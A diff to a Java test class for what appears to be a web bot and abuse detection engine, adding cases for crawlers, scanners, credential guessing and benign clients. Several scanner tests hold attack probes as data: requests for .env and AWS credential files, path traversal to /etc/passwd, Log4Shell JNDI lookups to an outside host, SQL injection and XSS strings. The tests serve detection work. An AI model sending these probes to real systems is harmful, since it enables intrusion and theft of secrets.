@@ -57,7 +57,16 @@ class BuiltInSceneTests {
     }
 
     private static RequestFacts request(String method, String path, @Nullable String agent, @Nullable String referrer) {
-        return new RequestFacts(method, RequestPath.of(path), agent, referrer, "en", true, true);
+        int query = path.indexOf('?');
+        return new RequestFacts(
+                method,
+                RequestPath.of(path),
+                query < 0 ? null : path.substring(query + 1),
+                agent,
+                referrer,
+                "en",
+                true,
+                true);
     }
 
     private RiskAction happens(String scene, RiskEvent event, RiskResult result) {
@@ -84,7 +93,7 @@ class BuiltInSceneTests {
             return happens(
                     "crawler",
                     RiskEvent.of(at("203.0.113.7", null), request(method, path, agent, referrer)),
-                    RiskResult.ofStatus(status));
+                    RiskResult.ofPage(status));
         }
 
         /** Honest programs: each says what it is, and comes by a timer. */
@@ -98,6 +107,9 @@ class BuiltInSceneTests {
             python-requests/2.31.0                                                 | GET  | /api/stock.csv | 30
             okhttp/4.12.0                                                          | GET  | /api/v1/cart   | 7
             Shop/5.2 (iPhone; iOS 18.5; Scale/3.00) CFNetwork/1494.0.7             | GET  | /api/v1/cart   | 7
+            Mozilla/5.0 (compatible; PRTG Network Monitor (www.paessler.com); Windows) | GET | /           | 60
+            Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.1 | GET | /blog/42    | 300
+            Mozilla/5.0 (Linux; Android 15; Pixel 9; wv) AppleWebKit/537.36 Chrome/138.0 | GET | /app/start | 20
             """)
         void isNotWhoeverSaysWhatItIs(String agent, String method, String path, int seconds) {
             for (int i = 0; i < 200; i++) {
@@ -117,6 +129,34 @@ class BuiltInSceneTests {
         }
 
         @Test
+        void isNotAPageThatLooksForNewsEveryThreeSeconds() {
+            for (int i = 0; i < 400; i++) {
+                asks("GET", "/api/notifications", BROWSER, "https://shop.example/", 200);
+                pause(3 + random.nextDouble() / 20);
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isNotANamelessProgramThatLooksWhetherAllIsWell() {
+            for (int i = 0; i < 200; i++) {
+                asks("GET", "/ping", null, null, 200);
+                pause(30 + random.nextDouble() / 20);
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isNotExcusedByPicturesThatAreNotThere() {
+            for (int i = 0; i < 60; i++) {
+                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
+                asks("GET", "/images/none.png", BROWSER, null, 404);
+                pause(2 + 4 * random.nextDouble());
+            }
+            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
         void isNotWhoeverReadsFromTheFirstPageToTheLast() {
             for (int i = 1; i < 60; i++) {
                 asks("GET", "/thread/55/page/" + i, BROWSER, "https://forum.example/thread/55/page/" + (i - 1), 200);
@@ -126,11 +166,70 @@ class BuiltInSceneTests {
         }
 
         @Test
-        void isNotAnOfficeThatHasAllPicturesAlready() {
+        void isNotABrowserThatReadsFeeds() {
+            for (int i = 0; i < 200; i++) {
+                asks("GET", "/feeds/" + i % 30 + "/atom", BROWSER, null, 200);
+                pause(2 + 4 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isNotATabWhoseSessionHasRunOut() {
+            for (int i = 0; i < 200; i++) {
+                asks("GET", "/api/notifications", BROWSER, "https://shop.example/", 401);
+                pause(5 + random.nextDouble() / 20);
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isWhoeverReadsHundredsOfPagesWithoutAPicture() {
+            for (int i = 0; i < 400; i++) {
+                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, "https://shop.example/", 200);
+                pause(2 + random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
+        void isWhoeverReadsHundredsOfPagesInTheirOrderWithoutAPicture() {
+            for (int i = 0; i < 400; i++) {
+                asks("GET", "/products/" + i, BROWSER, "https://shop.example/", 200);
+                pause(12 + 6 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
+        void isWhoeverReadsHundredsOfPagesInAnHourWithAPictureForEach() {
+            for (int i = 0; i < 400; i++) {
+                asks("GET", "/products/" + i, BROWSER, "https://shop.example/", 200);
+                asks("GET", "/css/site.css", BROWSER, "https://shop.example/", 200);
+                pause(3 + 6 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
+        void isABrowserWithoutAName() {
+            for (int i = 0; i < 40; i++) {
+                asks("GET", "/products/" + random.nextInt(10_000), null, null, 200);
+                pause(5 + 2 * random.nextDouble());
+            }
+            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
+        }
+
+        /** Their caches are full, but for what is new. */
+        @Test
+        void isNotAnOfficeThatHasAlmostAllPicturesAlready() {
             for (int i = 0; i < 2_000; i++) {
+                if (i % 60 == 0) {
+                    asks("GET", "/wiki/images/" + i + ".png", BROWSER, "https://x/", 200);
+                }
                 asks(
                         "GET",
-                        "/wiki/page-" + (char) ('a' + random.nextInt(26)) + random.nextInt(30),
+                        "/wiki/page-" + (char) ('a' + random.nextInt(26)) + random.nextInt(10),
                         BROWSER,
                         "https://x/",
                         200);
@@ -191,14 +290,52 @@ class BuiltInSceneTests {
             "'/.env /.git/HEAD /.aws/credentials', 200",
             "'/.env.production /.Git-credentials /backup.tar.xz', 404",
             "'/actuator/env /v2/api-docs /login.action', 404",
-            "'/cgi-bin/.%2e/.%2e/bin/sh /wp-config.php.bak /x/../../etc/passwd', 404"
+            "'/cgi-bin/.%2e/.%2e/bin/sh /wp-config.php.bak /x/../../etc/passwd', 404",
+            "'/cgi-bin/.%2e/.%2e/bin/sh /cgi-bin/.%2e/.%2e/bin/sh', 400",
+            "'/.env', 404",
+            "'/wp-login.php /wp-content/plugins/wp-file-manager/readme.txt /wp-json/wp/v2/users', 404",
+            "'/vpn/../vpns/cfg/smb.conf /logon/LogonPoint/index.html', 404",
+            "'/dana-na/auth/url_default/welcome.cgi /remote/login', 404",
+            "'/SDK/webLanguage /ISAPI/Security/users', 404",
+            "'/backup.zip /www.tar.gz', 404",
+            "'/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array', 404",
+            "'/?x=${jndi:ldap://198.51.100.7/a} /?x=$%7Bjndi:dns://198.51.100.7/b%7D', 200",
+            "'/item?id=1%20UNION%20SELECT%20NULL /item?id=1%27%20OR%201=1--', 200",
+            "'/view?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd /view?file=..%252f..%252fetc%252fpasswd', 200",
+            "'/search?q=%3Cscript%3Ealert(1)%3C/script%3E /search?q=%22%3E%3Csvg+onload=1%3E', 200"
         })
         void isWhoeverLooksForHoles(String paths, int status) {
             for (String path : paths.split(" ")) {
                 asks("GET", path, BROWSER, null, status);
                 pause(2);
             }
-            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
+            assertThat(asks("GET", "/", BROWSER, null, 200)).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
+        void isWhoeverLooksForHolesByItsName() {
+            String agent = "${jndi:ldap://198.51.100.7/a}";
+            asks("GET", "/", agent, null, 200);
+            asks("GET", "/login", agent, null, 200);
+            assertThat(asks("GET", "/search", agent, null, 200)).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
+        }
+
+        /** Names that have to be encoded, links that were cut, what was moved, and what programs of the office look for. */
+        @ParameterizedTest
+        @CsvSource({
+            "'/product/5/100%25-cotton /product/6/50%25-wool /tag/AC%2FDC /tag/TCP%2FIP /browse/%D9%85%D8 /50%-off', 200",
+            "'/files/a.zip /files/b.zip /files/c.tar.gz', 404",
+            "'/news.php /shop.php /old/page17.php /old/page18.aspx', 404",
+            "'/console/ps3 /console/ps4', 404",
+            "'/autodiscover/autodiscover.xml /Autodiscover/Autodiscover.xml', 404",
+            "'/search?q=union+workers+select+committee /search?q=script+for+a+play /go?to=https://x.example/a/../b', 200"
+        })
+        void isNotWhoeverFollowsOddOrDeadLinks(String paths, int status) {
+            for (String path : paths.split(" ")) {
+                asks("GET", path, BROWSER, "https://shop.example/", status);
+                pause(20);
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
         }
 
         @Test
@@ -266,6 +403,14 @@ class BuiltInSceneTests {
         }
 
         @Test
+        void isGuessedByWhoGetsNothingRight() {
+            for (int i = 0; i < 12; i++) {
+                tries(null, "victim", true);
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
         void isNotStuffedByAnOfficeThatMistypes() {
             for (int i = 0; i < 80; i++) {
                 while (random.nextInt(6) == 0) {
@@ -286,6 +431,51 @@ class BuiltInSceneTests {
                             at("203.0.113.7", null), request("POST", "/pay", BROWSER, "https://x/"), "card-" + i, null),
                     RiskResult.SUCCESS);
             pause(15 + 15 * random.nextDouble());
+        }
+        assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+    }
+
+    @Test
+    void anOfficeThatOrdersIsAskedAndNeverBanned() {
+        for (int i = 0; i < 20; i++) {
+            happens(
+                    "order",
+                    new RiskEvent(
+                            at("203.0.113.7", "colleague-" + i),
+                            request("POST", "/pay", BROWSER, "https://x/"),
+                            "card-" + i,
+                            null),
+                    RiskResult.SUCCESS);
+            pause(30);
+        }
+        assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+    }
+
+    @Test
+    void aCardThatIsDeclinedIsOneFactOfAddressAndUser() {
+        for (int i = 0; i < 12; i++) {
+            happens(
+                    "order",
+                    new RiskEvent(
+                            at("203.0.113.7", "carol"), request("POST", "/pay", BROWSER, "https://x/"), "card", null),
+                    RiskResult.FAILURE);
+            pause(20 + 5 * random.nextDouble());
+        }
+        assertThat(worst).isLessThanOrEqualTo(RiskAction.CHALLENGE);
+    }
+
+    @Test
+    void whoReadsHisOwnNumbersInTheirOrderIsAskedAndNotRefused() {
+        for (int i = 0; i < 40; i++) {
+            happens(
+                    "enumeration",
+                    new RiskEvent(
+                            at("203.0.113.7", "alice"),
+                            request("GET", "/invoices/" + (100 + i), BROWSER, "https://x/"),
+                            null,
+                            null),
+                    RiskResult.SUCCESS);
+            pause(10 + 5 * random.nextDouble());
         }
         assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
     }
